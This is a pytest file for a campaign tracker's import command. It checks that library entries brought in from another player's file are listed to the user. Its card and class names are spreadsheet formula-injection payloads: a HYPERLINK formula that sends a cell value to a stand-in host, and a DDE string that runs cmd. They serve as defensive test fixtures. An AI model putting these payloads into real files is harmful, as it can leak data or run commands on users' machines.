"""`tracker import` of another player's campaign file says which library entries it brings:
the library is shared by every campaign of the file, so a card or a class that arrives with a
campaign (a name a spreadsheet would run among them) is listed, never added without a word."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from campaign_files import migrated_engine, real_campaign_file, run_main

from tracker.db import make_engine, session_factory
from tracker.services import library

CARDS = ['=HYPERLINK("http://x.test/"&A3,"Ajax")', "-2+3+cmd|' /C notepad'!A0", "Hood"]


def _library(path: Path, cards: list[str], nation: str = "Britain") -> None:
    engine = make_engine(str(path))
    try:
        ability = {"name": "@SUM(1+1)", "text": "=1"}
        document = {
            "format": "tracker-library", "version": 1,
            "classes": [{"name": "@SUM(1+1)", "nation": nation, "structure": 9, "flotation": 8,
                         "points": 5}],
            "cards": [{"name": name, "nation": nation, "unit_type": "cruiser", "points": 10,
                       "abilities": [ability]} for name in cards],
        }  # fmt: skip
        report = library.import_library(session_factory(engine), raw=json.dumps(document).encode(),
                                        json_file=True)  # fmt: skip
        assert report.problems == ()
    finally:
        engine.dispose()


def test_an_import_lists_every_library_entry_it_adds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    theirs, mine, document = tmp_path / "theirs.db", tmp_path / "mine.db", tmp_path / "c.json"
    real_campaign_file(theirs)
    _library(theirs, CARDS)
    migrated_engine(mine).dispose()
    _library(mine, ["Hood"])  # the file already has one of them: it is kept, not listed
    assert run_main(capsys, ["--db", str(theirs), "export", "River Plate", "--to",
                             str(document)]).status == 0  # fmt: skip
    done = run_main(capsys, ["--db", str(mine), "import", str(document)])
    assert done.status == 0, done.err
    assert done.out.splitlines()[1:] == [
        f"  added to the library: unit card {name} (Britain)" for name in CARDS[:2]
    ]
    # Imported again under another name, it brings nothing new: nothing is listed (the line
    # after the first says the copy is a campaign of its own, docs/FILES.md).
    again = run_main(capsys, ["--db", str(mine), "import", str(document), "--name", "Copy"])
    assert again.status == 0, again.out
    assert [line.split(":")[0] for line in again.out.splitlines()[1:]] == [
        f"  {mine} holds this campaign already"
    ], again.out
